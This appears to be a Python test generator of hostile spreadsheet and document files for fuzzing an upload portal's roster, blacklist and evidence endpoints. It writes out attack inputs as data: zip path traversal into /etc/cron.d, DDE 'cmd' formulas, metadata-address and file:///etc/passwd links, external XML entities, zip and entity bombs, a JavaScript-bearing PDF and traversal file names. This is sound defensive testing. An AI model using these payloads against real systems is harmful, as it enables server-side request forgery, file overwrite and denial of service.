"""A maker of hostile files: what an attacker, a broken program or a bad line of telephone sends to an upload.

Each kind is a function of a random generator, so that any number of distinct files is made from a seed. `hostile_files`
returns them with the door of the portal that they come by.
"""

import base64
import gzip
import io
import json
import struct
import zipfile
from collections.abc import Callable, Iterator
from random import Random
from typing import NamedTuple

from tests.cases.archives import sheet_xml, workbook, zipped
from tests.hostile.texts import TEXT_KINDS, TEXTS
from tests.spreadsheet_files import BLACKLIST_HEAD, ROSTER_HEAD, blacklist_line, roster_line
from tests.spreadsheets.bad_files import (
    entity_bomb,
    in_sheet,
    many_references,
    million_formatted_rows,
    mutated,
    outside_entity,
    rezipped,
    two_cell_workbook,
    zip_bomb,
)
from tests.spreadsheets.workbooks import FORMATS

Kind = Callable[[Random], tuple[str, bytes]]
"""A kind of file: random generator → ending of the name and content."""

MAGIC = (
    b"MZ\x90\0",
    b"\x7fELF",
    b"\x89PNG\r\n\x1a\n",
    b"GIF89a",
    b"\xff\xd8\xff\xe0",
    b"%PDF-1.7\n",
    b"Rar!\x1a\x07",
    b"7z\xbc\xaf\x27\x1c",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    b"PK\x03\x04",
    b"PK\x05\x06" + bytes(18),
    b"{\\rtf1",
    b"SQLite format 3\0",
)
ENDINGS = ("xlsx", "xls", "xlsb", "ods", "et", "csv", "txt", "htm", "mht", "json", "xlsm", "exe", "")
# References and numbers that no sheet has.
PLACES = ("XFD1048576", "XFE1", "A1048577", "A0", "A99999999999", "ZZZZZZ1", "1A", "", "A-1", "Ａ１", "A1:B2")
INDEXES = ("-1", "999999999999", "1e9", "0x10", "", "NaN", "2147483648", "18446744073709551616")


def lines(rng: Random) -> list[list[str]]:
    """Return a roster or a blacklist of a few rows with a hostile text in one of the cells."""
    if rng.random() < 0.5:
        made = [list(ROSTER_HEAD), *(list(roster_line(rng.randrange(1, 900))) for _ in range(rng.randrange(1, 6)))]
    else:
        names = [f"济南泺岬{rng.randrange(1000, 9999)}进出口有限公司" for _ in range(rng.randrange(1, 6))]
        made = [list(BLACKLIST_HEAD), *(list(blacklist_line(name)) for name in names)]
    row = rng.choice(made)
    row[rng.randrange(len(row))] = rng.choice(TEXTS)(rng)
    return made


def xlsx(rng: Random) -> bytes:
    return zipped(workbook(sheet_xml([[_xml_text(text) for text in line] for line in lines(rng)])))


def _xml_text(text: str) -> str:
    return "".join(character for character in text if character in "\t\n" or character >= " ")[:32_767]


def mutated_workbook(rng: Random) -> tuple[str, bytes]:
    """Changed, missing, doubled, cut and exchanged parts of a workbook, or changed bytes of the archive."""
    ending = rng.choice(("xlsx", "ods", "xlsb"))
    table = [[_xml_text(text) for text in line] for line in lines(rng)]
    return ending, mutated(FORMATS[ending](table), rng)


def mutated_file(rng: Random) -> tuple[str, bytes]:
    """A file of any format, cut at a random byte or with flipped bytes."""
    name = rng.choice(sorted(FORMATS))
    table = [[_xml_text(text).replace("\n", " ") for text in line] for line in lines(rng)]
    try:
        content = bytearray(FORMATS[name](table))
    except (UnicodeEncodeError, ValueError):
        content = bytearray(FORMATS["html"](table))
    if rng.random() < 0.5:
        del content[rng.randrange(1, len(content)) :]
    for _ in range(rng.randrange(0, 20)):
        content[rng.randrange(len(content))] ^= 1 << rng.randrange(8)
    return name.split()[0].replace("tab", "txt").replace("semicolon", "csv"), bytes(content)


def wrong_ending(rng: Random) -> tuple[str, bytes]:
    """A good file, or the beginning of another kind of file, under any ending."""
    content = xlsx(rng) if rng.random() < 0.3 else rng.choice(MAGIC) + rng.randbytes(rng.randrange(0, 3000))
    return rng.choice(ENDINGS), content


def polyglot(rng: Random) -> tuple[str, bytes]:
    """A workbook behind or before another kind of file."""
    other = rng.choice(MAGIC) + rng.choice((b"", b"<html><script>alert(1)</script>", rng.randbytes(200)))
    return rng.choice(ENDINGS), other + xlsx(rng) if rng.random() < 0.5 else xlsx(rng) + other


def strange_archive(rng: Random) -> tuple[str, bytes]:
    """Paths that climb, thousands of parts, parts twice, an archive in an archive, encryption, lies about sizes."""
    whole, kind = xlsx(rng), rng.randrange(6)
    stream = io.BytesIO(whole)
    with zipfile.ZipFile(stream, "a") as archive:
        if kind == 0:
            archive.writestr("../../../../etc/cron.d/x", "* * * * * root true")
            archive.writestr("/etc/passwd", "x")
        elif kind == 1:
            for number in range(rng.randrange(1990, 2100)):
                archive.writestr(f"xl/media/{number}.png", b"")
        elif kind == 2:
            archive.writestr("xl/embeddings/inner.xlsx", whole)
            archive.writestr("xl/vbaProject.bin", rng.choice(MAGIC) + rng.randbytes(500))
        elif kind == 3:
            archive.writestr(f"customXml/item{rng.randrange(9)}.xml", "<a>" * rng.randrange(1, 30_000))
    content = bytearray(stream.getvalue())
    if kind in (4, 5):
        # The flag of encryption, or the sizes, in the directory at the end.
        start = content.rfind(b"PK\x01\x02")
        place = start + (8 if kind == 4 else rng.choice((20, 24, 42)))
        content[place : place + 2] = b"\x01\x00" if kind == 4 else struct.pack("<H", rng.randrange(65_536))
    return "xlsx", bytes(content)


def strange_cells(rng: Random) -> tuple[str, bytes]:
    """References, styles and indexes of shared texts that do not exist; values that are no numbers."""
    place, index = rng.choice(PLACES), rng.choice(INDEXES)
    value = rng.choice(("9" * rng.randrange(1, 200_000), "1e400", "-1e308", "NaN", "", "0x1", "４３６５６"))
    cell = rng.choice(
        (
            f'<c r="{place}" t="inlineStr"><is><t>甲</t></is></c>',
            f'<c r="B2" t="s"><v>{index}</v></c>',
            f'<c r="B2" s="{index}"><v>{value}</v></c>',
            f'<c r="C2" t="d"><v>{value[:40]}</v></c>',
            f'<c r="B2" t="e"><v>#{value[:9]}!</v></c>',
            f'<c r="B2" t="b"><v>{index}</v></c>',
            f'<c r="B2"><f>{"(" * rng.randrange(1, 9000)}1</f><v>{value[:40]}</v></c>',
        )
    )
    return "xlsx", zipped(workbook(sheet_xml(lines_of_xml(rng), {"B2": cell, "C2": cell})))


def lines_of_xml(rng: Random) -> list[list[str]]:
    return [[_xml_text(text) for text in line] for line in lines(rng)]


def lies_about_size(rng: Random) -> tuple[str, bytes]:
    """A used range and numbers of rows that are not those of the sheet."""
    dimension = rng.choice(("A1:XFD1048576", "A1:A1", "ZZ9:A1", "", "A1:ZZZZZ99999999", "名单"))
    sheet = sheet_xml(lines_of_xml(rng)).replace("<sheetData>", f'<dimension ref="{dimension}"/><sheetData>')
    number = rng.choice(INDEXES)
    if rng.random() < 0.6:
        sheet = sheet.replace('<row r="2"', f'<row r="{number}"', 1)
    return "xlsx", zipped(workbook(sheet))


def merged_cells(rng: Random) -> tuple[str, bytes]:
    """Many merged ranges, over each other and over the whole sheet."""
    count = rng.choice((1, 100, 20_000, 200_000))
    ranges = "".join(f'<mergeCell ref="A{n}:{rng.choice("BZ")}{n + rng.randrange(3)}"/>' for n in range(1, count + 1))
    ranges += '<mergeCell ref="A1:XFD1048576"/>'
    merged = f'</sheetData><mergeCells count="{count}">{ranges}</mergeCells>'
    return "xlsx", zipped(workbook(sheet_xml(lines_of_xml(rng)).replace("</sheetData>", merged)))


def external_contents(rng: Random) -> tuple[str, bytes]:
    """Formulas that call programs, links to other files and servers, connections, macros."""
    formula = rng.choice(
        (
            "cmd|'/c calc'!A1",
            'HYPERLINK("http://192.0.2.1/"&amp;A1)',
            'WEBSERVICE("http://169.254.169.254/")',
            "[1]Sheet1!A1",
            'INDIRECT(REPT("A",1000000))',
        )
    )
    cell = f'<c r="B2"><f>{formula}</f><v>{rng.randrange(9)}</v></c>'
    parts = workbook(sheet_xml(lines_of_xml(rng), {"B2": cell}))
    target = rng.choice(("file:///etc/passwd", "\\\\192.0.2.1\\share", "http://169.254.169.254/latest/meta-data/"))
    parts["xl/externalLinks/externalLink1.xml"] = "<externalLink/>"
    relations = f'<Relationships><Relationship Target="{target}"/></Relationships>'
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = relations
    parts["xl/connections.xml"] = f'<connections><connection><webPr url="{target}"/></connection></connections>'
    return rng.choice(("xlsx", "xlsm")), zipped(parts)


def deep_xml(rng: Random) -> tuple[str, bytes]:
    """Elements in elements, many attributes, long names, in a sheet or in the content of an .ods."""
    depth = rng.choice((100, 5_000, 60_000))
    inner = rng.choice(
        (
            "<a>" * depth + "</a>" * depth,
            "<a " + " ".join(f'b{n}="1"' for n in range(depth)) + "/>",
            f"<{'n' * depth}/>",
            f"<a>{'<!---->' * depth}</a>",
            f"<![CDATA[{']' * depth}]]>",
        )
    )
    return "xlsx", in_sheet(xlsx(rng), b"</sheetData>", inner.encode() + b"</sheetData>")


def entities(rng: Random) -> tuple[str, bytes]:
    """Entities that expand to gigabytes, or that read files and addresses."""
    whole = FORMATS["xlsx"](lines_of_xml(rng))
    if rng.random() < 0.5:
        return "xlsx", rng.choice((entity_bomb, outside_entity))(whole)
    outside = b'<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p; <!ENTITY e "' + b"x" * 5000 + b'">'

    def change(name: str, content: bytes) -> bytes:
        head = b"<!DOCTYPE worksheet [" + outside + b"]><worksheet"
        return content.replace(b"<worksheet", head, 1).replace(b"</t>", b"&e;</t>")

    return "xlsx", rezipped(whole, change)


def repeated_ods(rng: Random) -> tuple[str, bytes]:
    """Cells and rows of an .ods that are repeated a billion times."""
    many, what = rng.choice((300, 70_000, 1_000_000_000)), rng.choice(("columns", "rows"))
    whole = FORMATS["ods"](lines_of_xml(rng))
    element = "table-cell" if what == "columns" else "table-row"
    repeated = f'<table:{element} table:number-{what}-repeated="{many}"'.encode()
    old = f"<table:{element}".encode()
    times = rng.randrange(1, 4)
    return "ods", rezipped(whole, lambda name, content: content.replace(old, repeated, times))


def encrypted(rng: Random) -> tuple[str, bytes]:
    """What begins like an encrypted or an old workbook, with random content."""
    marks = ("EncryptedPackage", "Workbook", "Book", "WordDocument", "\x05SummaryInformation", "_VBA_PROJECT_CUR")
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rng.randbytes(24) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    body = rng.choice(marks).encode("utf-16-le") + rng.randbytes(rng.randrange(400, 6000))
    return rng.choice(("xls", "xlsx", "et")), head + body


def mutated_xls(rng: Random) -> tuple[str, bytes]:
    """An old workbook with changed records and sectors."""
    content = bytearray(FORMATS["xls"]([[text[:200] for text in line] for line in lines_of_xml(rng)]))
    for _ in range(rng.randrange(1, 40)):
        place = rng.randrange(8, len(content) - 2)
        content[place : place + 2] = rng.choice((b"\xff\xff", b"\0\0", rng.randbytes(2)))
    return "xls", bytes(content)


def compressed(rng: Random) -> tuple[str, bytes]:
    """A compressed text, or one that says that it is."""
    return rng.choice(("csv", "json", "xlsx")), gzip.compress(rng.randbytes(rng.randrange(10, 2000)) + bytes(100_000))


def document(rng: Random) -> tuple[str, bytes]:
    """Documents and pictures as evidence: cut, deep, encrypted, with programs."""
    text = _xml_text(rng.choice(TEXTS)(rng)).replace("<", "").replace("&", "")[:5000]
    xml = rng.choice((f"<w:p><w:t>{text}</w:t></w:p>", "<w:p>" * rng.randrange(1, 30_000), "<w:t>" + "9" * 200_000))
    docx = zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": xml})
    pdf = b"%PDF-1.7\n/OpenAction << /S /JavaScript /JS (app.alert(1)) >>\n" + rng.randbytes(rng.randrange(2000))
    picture = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sIIB", 13, b"IHDR", 2**31 - 1, 2**31 - 1, 8) + rng.randbytes(100)
    ending, content = rng.choice((("docx", docx), ("docx", mutated(docx, rng)), ("pdf", pdf), ("png", picture)))
    return ending, content[: rng.randrange(1, len(content))] if rng.random() < 0.3 else content


def large(rng: Random) -> tuple[str, bytes]:
    """Small files that become large, and large ones; each is made once."""
    makers: tuple[Callable[[], tuple[str, bytes]], ...] = (
        lambda: ("xlsx", zip_bomb()),
        lambda: ("xlsx", two_cell_workbook()),
        lambda: ("xlsx", many_references(sheets=rng.randrange(1, 4), lines=20_000, length=1600)),
        lambda: ("xlsx", million_formatted_rows(xlsx(rng))),
        lambda: ("csv", b"\xe2\x80\x8b".join([b"1"] * 1_000_000)),
        lambda: ("csv", "\ufdfa".encode() * rng.randrange(500_000, 3_000_000)),
        lambda: ("csv", ("企业名称" + "(" * 300_000 + ",代码\n").encode()),
        lambda: ("csv", b"a,b\n" * 400_000),
        lambda: ("csv", b'"' * rng.randrange(1_000_000, 4_000_000)),
        lambda: ("json", b"[" * 200_000 + b"]" * 200_000),
        lambda: ("json", b'{"entries": [' + b"9" * 1_000_000 + b"]}"),
        lambda: ("json", json.dumps({"entries": [{str(n): "x" for n in range(100_000)}]}).encode()),
        lambda: ("htm", b"<table><tr><td>" * 50_000),
        lambda: ("htm", b"<table><tr><td rowspan=65534 colspan=1000>" + "甲".encode() * 3000 + b"</td></tr></table>"),
        lambda: (
            "mht",
            b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + base64.b64encode(bytes(3_000_000)),
        ),
        lambda: ("xlsx", zipped(workbook(sheet_xml([["企业名称"], ["9" * 3_000_000]])))),
        lambda: ("xlsx", zipped(workbook(sheet_xml([[str(n) for n in range(190)]] * 20_000)))),
    )
    return makers[rng.randrange(len(makers))]()


KINDS: tuple[Kind, ...] = (
    mutated_workbook,
    mutated_file,
    wrong_ending,
    polyglot,
    strange_archive,
    strange_cells,
    lies_about_size,
    merged_cells,
    external_contents,
    deep_xml,
    entities,
    repeated_ods,
    encrypted,
    mutated_xls,
    compressed,
    document,
    *TEXT_KINDS,
)
DOORS = ("roster page", "roster API", "blacklist page", "blacklist API", "feed", "evidence")
# One file in so many is a large one, which takes seconds.
LARGE_EVERY = 30


class HostileFile(NamedTuple):
    """A file: its kind, the door that it comes by, the name that its sender gives, and its content."""

    kind: str
    door: str
    name: str
    content: bytes


def hostile_files(count: int, *, seed: int) -> Iterator[HostileFile]:
    """Yield that many files; each kind comes by each door, and each seed makes others."""
    for number in range(count):
        rng = Random(seed * 1_000_003 + number)
        turn = seed + number // len(DOORS)
        make = large if turn % LARGE_EVERY == LARGE_EVERY - 1 else KINDS[turn % len(KINDS)]
        ending, content = make(rng)
        stem = rng.choice(("名单", "../../etc/x", "a\u202egnp", "x" * 300, "CON", "=cmd", " ", "名单.xlsx.exe"))
        yield HostileFile(make.__name__, DOORS[number % len(DOORS)], f"{stem}.{ending}", content or b"\0")
